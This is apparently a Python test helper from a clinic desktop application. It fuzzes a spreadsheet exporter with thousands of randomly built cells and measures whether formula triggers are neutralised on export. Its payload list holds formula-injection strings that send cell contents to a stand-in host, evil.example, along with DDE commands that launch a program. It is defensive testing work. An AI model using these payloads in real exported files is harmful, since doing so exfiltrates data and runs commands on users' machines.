"""Cells that a spreadsheet would run, made by the thousand, and the count of what became of them (S21)."""

import csv
import io
from collections.abc import Sequence
from random import Random
from typing import NamedTuple

from clinic_desktop.values.spreadsheet import rows_in, spreadsheet

_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\x00", "＝", "＋", "－", "＠")
_BEFORE = ("", "", "", " ", "  ", "\u00a0", "\u200b", "\ufeff", "\u3000", "'", "''", "\t", "\r\n", "\x00", '"', "' ")
_PAYLOADS = (
    'HYPERLINK("http://evil.example/?x="&A1,"Ada")',
    "cmd|'/c calc'!A0",
    "SUM(1+1)*cmd|'/c calc'!A0",
    'WEBSERVICE("http://evil.example/")',
    'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "1+1",
    '2","=3',
    "DDE(\"cmd\",\"/C calc\",\"x\")",
    "Ada\r\n=1+1",
    "Zoë, 李, שלום",
)  # fmt: skip


class Neutralized(NamedTuple):
    """Of so many cells, how many still begin with a trigger in the file, and how many are read back as they were."""

    cells: int
    start_with_a_trigger: int
    read_back_equal: int


def hostile_cells(count: int, chance: Random) -> list[str]:
    """Cells of every kind above, put together by chance."""
    return [chance.choice(_BEFORE) + chance.choice(_STARTS) + chance.choice(_PAYLOADS) for _ in range(count)]


def neutralized(cells: Sequence[str]) -> Neutralized:
    """Write them as one file, four a row, and look at what lies in it; for the scorecard too."""
    rows = [cells[at : at + 4] for at in range(0, len(cells), 4)]
    made = spreadsheet(rows)
    raw = [cell for row in csv.reader(io.StringIO(made.decode("utf-8-sig"), newline="")) for cell in row]
    dropped = " \u00a0\u200b\ufeff\u3000\t\r\n\x00"
    begin = sum(cell.startswith(_STARTS) or cell.lstrip(dropped).startswith(_STARTS) for cell in raw)
    back = [cell for row in rows_in(made) for cell in row]
    return Neutralized(len(raw), begin, sum(one == other for one, other in zip(cells, back, strict=True)))
